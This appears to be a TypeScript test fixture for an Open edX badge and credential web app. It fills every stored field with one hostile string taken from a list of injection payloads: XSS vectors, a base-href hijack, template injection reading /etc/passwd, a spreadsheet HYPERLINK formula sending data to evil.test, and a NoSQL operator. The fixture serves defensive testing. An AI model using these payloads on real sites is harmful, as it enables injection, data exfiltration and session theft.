/** A site in which every text that people, the LMS and badge providers supply is the same hostile one. */

import { aDeadMessage } from '../contracts/dead-letters.ts';
import { anAccount, aTemplate } from '../contracts/provider-store.ts';
import { aCredential, passingEvent } from './seed.ts';
import { makeSite, type Site } from './web.ts';

const PASSING = 'org.openedx.learning.course.passing.status.updated.v1';

/** Texts that run, or ask for more than they should, wherever they are not taken for texts. */
export const HOSTILE: readonly string[] = [
  `"><script>alert(1)</script><img src=x onerror='alert(2)'>`,
  `' autofocus onfocus=alert(1) x='`,
  `</title></textarea></select><svg/onload=alert(1)>`,
  `javascript:alert(1)`,
  ` java\tscript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `<a href="&#106;avascript:alert(1)">x</a><base href=//evil.test>`,
  `<%= 7*7 %><%- include("/etc/passwd") %>`,
  `=HYPERLINK("http://evil.test?"&A1,"x")`,
  `{"$ne":null}`,
];

export interface HostileSite {
  readonly site: Site;
  readonly ids: Readonly<Record<string, string>>;
}

export async function hostileSite(evil: string): Promise<HostileSite> {
  const site = makeSite();
  const { services } = site;
  const now = services.clock.now();
  const rules = `badge "evil" {
    name ${JSON.stringify(evil)}
    template memory ${JSON.stringify(evil)}
    active true
    requirement r in group A {
      description ${JSON.stringify(evil)}
      on ${PASSING}
      where course.course_key != ${JSON.stringify(evil)}
    }
  }`;
  await services.saveBadge(rules, { expectedVersion: 0, actor: evil, reason: evil });
  await services.saveBadge(`# ${evil}\n${rules}`, { expectedVersion: 1, actor: evil, reason: evil });
  const event = passingEvent({ user: 'ada', at: '2026-03-02T10:15:00Z', id: evil.replaceAll(/\p{Cc}/gu, ' ') });
  event.data.course_passing_status.user.pii = { username: evil, email: evil, name: evil };
  event.data.course_passing_status.course.display_name = evil;
  await services.processEvent(services.decodeCloudEvent(event), 'http');
  const learner = (await services.learners.list({ limit: 1 })).items[0];
  await site.dispatcher.runDue();
  const [progress] = await services.progress.ofLearner(learner?.id ?? '');
  if (!learner || !progress) throw new Error('the event made no progress');
  const issued = progress.issued.map((badge) => ({
    ...badge,
    externalId: evil,
    externalState: evil,
    externalUrl: evil,
  }));
  const lastError = { code: evil, message: evil, at: now };
  const effects = progress.effects.map((effect) => ({ ...effect, state: 'failed' as const, lastError }));
  await services.progress.save({ ...progress, issued, effects });
  await services.providerStore.saveAccount(
    anAccount({ provider: 'hall', name: evil, externalId: evil, lastCheck: { at: now, ok: false, message: evil } }),
  );
  const account = (await services.providerStore.accounts('hall'))[0];
  const texts = { name: evil, description: evil, imageUrl: evil, dashboardUrl: evil };
  await services.providerStore.saveTemplate(aTemplate({ provider: 'hall', accountId: account?.id ?? '', ...texts }));
  await services.credentials.saveType({
    ...{ id: 't', name: evil, retrievalFunction: 'course-completions', generationFunction: 'pdf', options: {} },
    updatedAt: now,
  });
  const configuration = { id: 'c', credentialTypeId: 't', contextKey: evil, options: {}, updatedAt: now };
  await services.credentials.saveConfiguration(configuration);
  const said = {
    reason: evil,
    learnerName: evil,
    contextName: evil,
    contextKey: evil,
    credentialType: evil,
    email: evil,
  };
  const credential = aCredential({ username: evil, order: 1, configurationId: 'c', ...said });
  await services.credentials.createCredential(credential);
  const job = await services.jobs.request({
    ...{ kind: 'nothing', title: evil, requestedBy: evil, reason: evil, parameters: { [evil]: evil } },
  });
  const body = Buffer.from(JSON.stringify(event.data));
  await services.deadLetters.add(
    aDeadMessage({
      ...{ id: 'letter', eventType: evil, eventId: evil, source: evil, exchange: evil, routingKey: evil, queue: evil },
      ...{ reason: { code: evil, message: evil }, headers: { [evil]: evil }, contentType: evil, messageId: evil },
      ...{ body, bodyBytes: body.length },
    }),
  );
  await services.access.recordAudit({
    ...{ id: 'a', at: now, actor: evil, action: evil, object: evil, details: { [evil]: evil } },
  });
  await services.access.createApiToken({
    ...{ scopes: null, expiresAt: null },
    ...{ id: 'x', tokenHash: 'x', label: evil, createdAt: now, createdBy: evil, lastUsedAt: null, revokedAt: null },
  });
  return {
    site,
    ids: {
      ...{ badges: 'evil', learners: learner.id, events: evil, 'dead-letters': 'letter', jobs: job.id },
      ...{ configurations: 'c', 'credential-types': 't', credentials: credential.id, mails: credential.id },
      ...{ verify: credential.verifyId, accounts: account?.slug ?? '' },
    },
  };
}

/** The address of a route for what is there. */
export function addressOf(path: string, ids: HostileSite['ids'], otherwise: string): string {
  return path
    .replace(/\/([\w-]+)\/:\w+/g, (whole, kind: string) => {
      const id = ids[kind];
      return id === undefined ? whole : `/${kind}/${encodeURIComponent(id)}`;
    })
    .replace(':provider', 'hall')
    .replace(':version', '1')
    .replace(/:\w+/g, encodeURIComponent(otherwise));
}
